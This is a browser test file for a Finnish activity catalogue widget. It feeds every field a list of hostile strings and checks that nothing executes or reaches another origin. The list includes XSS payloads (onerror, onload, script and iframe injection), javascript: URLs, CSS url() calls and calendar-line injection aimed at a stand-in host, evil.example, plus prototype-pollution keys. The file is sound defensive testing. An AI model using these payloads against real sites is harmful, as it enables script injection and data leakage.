import { expect, waitUntil } from '@open-wc/testing';
import { addDays } from '@hyte/catalogue-widget/format/locale.js';
import type { HyteCatalogue } from '@hyte/catalogue-widget/elements/catalogue/hyte-catalogue.js';
import { FakeServer } from './support/fake-fetch.js';
import { TODAY } from './support/sample-catalogue.js';
import { fillSchema, type Schema, type Writer } from './support/fill-schema.js';
import { deep } from './support/host-frame.js';
import { smallCatalogue } from './support/small-catalogue.js';
import { fieldOf, part, pasted, textOf, titles } from './support/tray-fixture.js';

const EVIL = 'https://evil.example';
const HOSTILE = [
  `<img src=x onerror=parent.hacked()>`,
  `<img/src="${EVIL}/i.png"/onerror=parent.hacked()>`,
  `"><svg/onload=parent.hacked()>`,
  `<script>parent.hacked()</script>`,
  `</script><script>parent.hacked()</script>`,
  `</style><script src=${EVIL}/s.js></script>`,
  `<iframe srcdoc="<script>top.hacked()</script>">`,
  `javascript:parent.hacked()//@example.org`,
  `data:text/html,<script>parent.hacked()</script>`,
  `${EVIL}/"onmouseover="parent.hacked()`,
  `https://www.kouvola.fi@evil.example/`,
  `https://user:secret@evil.example/%0d%0aSet-Cookie:a=b`,
  `//evil.example/x.js`,
  `parent.hacked()'"@evil.example`,
  `a'onclick='parent.hacked()'@evil.example`,
  `;background:url(${EVIL}/c.png);`,
  `*{background:url(${EVIL}/c.png)}`,
  '{{constructor.constructor("parent.hacked()")()}}',
  '${parent.hacked()}',
  '__proto__',
  'constructor',
  'hasOwnProperty',
  'A\r\nATTACH:https://evil.example/x\r\nBEGIN:VALARM',
  '\u202ekäännetty\u2066\u2069 \u200f',
  'puolikas \ud800 ja \udc00',
  '\u0000\u001b[31m\u2028\u2029\ufeff',
  'ä'.repeat(20_000),
  'sana '.repeat(4000),
  'Z\u0335\u0321\u031b'.repeat(500),
];
/** What a line of a calendar file of ours begins with; a folded one with a space. */
const OWN_LINE =
  /^( |(BEGIN|END):V(CALENDAR|EVENT)$|(VERSION|PRODID|UID|DTSTAMP|DTSTART|DTEND|SUMMARY|LOCATION|DESCRIPTION|URL)[:;])/;
/** Names a page could mistake for its own. */
const KEYS = '"__proto__":{"polluted":true},"constructor":{"prototype":{"polluted":true}},';

const schema = (await (await fetch('/packages/catalogue-format/catalogue.schema.json')).json()) as Schema;

/** Every text of one record is the hostile one, or where that does not fit a pattern, another one that does. */
function hostile<T extends object>(index: number, name?: string): T {
  const inTurn = [...HOSTILE.slice(index), ...HOSTILE.slice(0, index)];
  return fillSchema(schema, name, (fits) => inTurn.find(fits)) as T;
}

interface Watched extends Window {
  /** Directives of the policy that something on the page has run against. */
  readonly broken: string[];
}

describe('hostile texts in every field', () => {
  let frame: HTMLIFrameElement | undefined;
  let runs: number;
  const page = (): Watched => frame?.contentWindow as unknown as Watched;
  const tray = (): HyteCatalogue => frame?.contentDocument?.querySelector('hyte-catalogue') as HyteCatalogue;
  const all = (selector: string): HTMLElement[] =>
    deep(tray().shadowRoot as ShadowRoot).filter((element) => element.matches(selector));

  beforeEach(() => {
    runs = 0;
    Object.assign(window, { hacked: () => (runs += 1) });
  });
  afterEach(() => {
    frame?.remove();
    frame = undefined;
    Reflect.deleteProperty(window, 'hacked');
  });

  /** A site with a catalogue of which every text is hostile: one activity for each. */
  async function visit(policy: string, attributes: Record<string, string> = {}): Promise<void> {
    frame = document.createElement('iframe');
    frame.title = 'host page';
    frame.style.cssText = 'inline-size: 1100px; block-size: 900px';
    frame.src = `/host/${policy}?${new URLSearchParams({ src: '/none.json', limit: '100', ...attributes }).toString()}`;
    document.body.append(frame);
    await waitUntil(() => frame?.contentDocument?.querySelector('hyte-catalogue')?.shadowRoot, 'the tray runs', {
      timeout: 20_000,
    });
    const activities = HOSTILE.map((text, index) => {
      const { id, places, ...made } = hostile<{ id: string; places: object[] }>(index, 'Activity');
      const known = places.map((each) => ({ ...each, point: { lat: 60.8 + index / 100, lon: 26.7 } }));
      const schedule = { sessions: [{ start: `${addDays(TODAY, 3)}T13:00` }], note: { fi: text } };
      return { ...made, id: index ? `${id.slice(0, 150)}${String(index)}` : '__proto__', places: known, schedule };
    });
    const head = { ...hostile<object>(3), activities };
    // Written and read as a file is, so that the keys are its own.
    const text = JSON.stringify(head).replaceAll('"kind":', `${KEYS}"kind":`);
    tray().catalogue = (page() as unknown as typeof globalThis).JSON.parse(text);
    await waitUntil(
      () => titles(tray()).length === HOSTILE.length,
      `all are shown, not ${String(titles(tray()).length)}`,
      { timeout: 20_000 },
    );
  }

  /** Nothing ran, nothing was asked of another site, and nothing in the tray could do either. */
  function expectHarmless(): void {
    expect(runs, 'scripts that ran').to.equal(0);
    expect(page().broken, 'refused by the policy').to.deep.equal([]);
    const asked = page()
      .performance.getEntriesByType('resource')
      .map(({ name }) => name);
    expect(asked.filter((name) => new URL(name).origin !== location.origin)).to.deep.equal([]);
    expect(({} as { polluted?: boolean }).polluted).to.equal(undefined);
    expect((page() as unknown as { Object: ObjectConstructor }).Object.prototype).not.to.have.property('polluted');
    const shown = all('*');
    expect(
      shown.filter(({ style }) => /url|import/i.test(style.cssText)).map(({ style }) => style.cssText),
    ).to.deep.equal([]);
    expect(
      shown.filter(({ localName }) => /^(script|iframe|object|embed|img|link|base|meta)$/.test(localName)),
    ).to.deep.equal([]);
    expect(shown.flatMap((element) => element.getAttributeNames().filter((name) => /^on/.test(name)))).to.deep.equal(
      [],
    );
    for (const link of shown.filter((element) => element.hasAttribute('href')) as HTMLAnchorElement[])
      expect(link.getAttribute('href')).to.match(/^(https?:|mailto:|tel:|#|\?)/);
  }

  /** Opens the activities one after the other, and does something with each. */
  async function openEach(then: (card: ShadowRoot) => Promise<void> | void): Promise<void> {
    for (const { shadowRoot: card } of all('hyte-activity-card')) {
      card?.querySelector<HTMLElement>('.name')?.click();
      await waitUntil(
        () => card?.querySelector('.section'),
        `${card?.querySelector('.name')?.textContent?.trim().slice(0, 80)} is open`,
        { timeout: 3000 },
      );
      await then(card as ShadowRoot);
    }
  }
  const press = (card: ShadowRoot, name: RegExp): void => {
    for (const button of card.querySelectorAll<HTMLElement>('.take-along button'))
      if (name.test(button.textContent ?? '')) button.click();
  };

  for (const policy of ['open', 'strict']) {
    const where = policy === 'open' ? 'without a policy' : 'with a strict policy';
    it(`on a page ${where}, listed, opened and on the map: nothing runs, and nothing is asked of another site`, async function () {
      this.timeout(60_000);
      await visit(policy, { layout: 'both' });
      await openEach(() => undefined);
      expectHarmless();
      all('hyte-activity-map')[0]?.scrollIntoView();
      await waitUntil(() => all('.map-spot').length > 0, 'the map is there', { timeout: 20_000 });
      for (const details of all('details')) (details as HTMLDetailsElement).open = true;
      expectHarmless();
    });
  }

  it('searched for: nothing runs, and what is typed is shown as it was typed', async function () {
    this.timeout(60_000);
    await visit('strict');
    const field = fieldOf(part(tray(), 'hyte-search-box'));
    for (const text of HOSTILE.slice(0, 24)) {
      field.value = text;
      const typed = field.value;
      field.dispatchEvent(new InputEvent('input', { bubbles: true, composed: true }));
      const list = part(tray(), 'hyte-activity-list');
      await waitUntil(() => list.shadowRoot?.querySelector('[aria-busy="true"]') === null, 'it is answered', {
        timeout: 8000,
      });
      expect(field.value).to.equal(typed);
    }
    expectHarmless();
  });

  it('taken along: a calendar file has no line of theirs, a link leads to this page', async function () {
    this.timeout(60_000);
    await visit('strict', { 'url-sync': 'query' });
    const files: Blob[] = [];
    const { URL: FrameURL, HTMLAnchorElement: Anchor } = page() as unknown as typeof globalThis;
    FrameURL.createObjectURL = (file) => `blob:${String(files.push(file as Blob))}`;
    Anchor.prototype.click = () => undefined;
    const before = page().location.href.split('?')[0];
    await openEach((card) => {
      press(card, /kalenteriin/);
      press(card, /Kopioi/);
      expect(page().location.href.split('?')[0]).to.equal(before);
    });
    expect(files).to.have.length(HOSTILE.length);
    for (const file of files) {
      const lines = (await file.text()).split('\r\n').filter(Boolean);
      expect(lines.filter((line) => !OWN_LINE.test(line))).to.deep.equal([]);
    }
    expectHarmless();
  });

  it('printed alone: nothing runs, and nothing is asked of another site', async function () {
    this.timeout(60_000);
    await visit('strict');
    let printed = 0;
    page().print = () => {
      printed += 1;
      page().dispatchEvent(new Event('afterprint'));
    };
    await openEach((card) => {
      press(card, /Tulosta/);
    });
    expect(printed).to.equal(HOSTILE.length);
    expectHarmless();
  });

  it('told to search engines: the block stays one block of data', async function () {
    this.timeout(60_000);
    await visit('open', { 'json-ld': '' });
    await waitUntil(() => tray().querySelector('script'), 'the block is there', { timeout: 8000 });
    const blocks = [...tray().querySelectorAll('script')];
    expect(blocks.map(({ type }) => type)).to.deep.equal(['application/ld+json']);
    expect(blocks[0]?.text).not.to.match(/<\/?script|<!--/i);
    expect((JSON.parse(blocks[0]?.text ?? '') as { itemListElement: unknown[] }).itemListElement).to.have.length(
      HOSTILE.length,
    );
    expectHarmless();
  });
});

describe('hostile addresses in a manifest', () => {
  const ADDRESSES = [
    `${EVIL}/a.json`,
    '//evil.example/a.json',
    '\\\\evil.example\\a.json',
    `https://${location.host}@evil.example/a.json`,
    `data:application/json,{}`,
    'javascript:parent.hacked()',
  ];
  for (const address of ADDRESSES) {
    it(`${address} for every file: nothing is asked of another site`, async () => {
      const asked: string[] = [];
      const real = window.fetch;
      const server = new FakeServer();
      const faked = window.fetch;
      window.fetch = (input, init) => {
        asked.push(new URL(String(input), document.baseURI).origin);
        return faked(input, init);
      };
      const { activities, ...head } = smallCatalogue();
      const file = { path: address, bytes: 10, records: 1 };
      const addressed: Writer = (fits, path) => (path.endsWith('.path') ? address : fits('x') ? 'x' : undefined);
      const { files } = fillSchema(schema, 'Manifest', addressed) as { files: object };
      const catalogues = {
        '/all.json': { ...head, files: { ...files, activities: [file] } },
        '/some.json': { ...head, files: { ...files, activities: [{ path: 'good.json' }] } },
        '/whole.json': { ...head, activities, areas: address, postcodes: address, travelTimes: address },
      };
      server.on('/good.json', { activities });
      try {
        for (const [path, catalogue] of Object.entries(catalogues)) {
          server.on(path, catalogue);
          const tray = pasted(
            `<hyte-catalogue src="${path}" layout="both" url-sync="none"><a href="/t">Toiminnat</a></hyte-catalogue>`,
          );
          await waitUntil(() => titles(tray).length > 0 || textOf(tray).includes('Yritä uudelleen'), 'it is settled', {
            timeout: 8000,
          });
          if (titles(tray).length === 0) continue;
          const map = part(tray, 'hyte-activity-map');
          map.scrollIntoView();
          await waitUntil(() => map.shadowRoot?.querySelector('.map-spot'), 'the map is there', { timeout: 8000 });
          const near = part(tray, 'hyte-filters').shadowRoot?.querySelector<HTMLFormElement>('form.near');
          (near?.elements.namedItem('place') as HTMLInputElement).value = '45100';
          near?.requestSubmit();
          await waitUntil(() => !near?.querySelector('[aria-busy="true"]'), 'the postcode is looked up', {
            timeout: 8000,
          });
        }
        expect([...new Set(asked)]).to.deep.equal([location.origin]);
      } finally {
        server.close();
        window.fetch = real;
      }
    });
  }
});
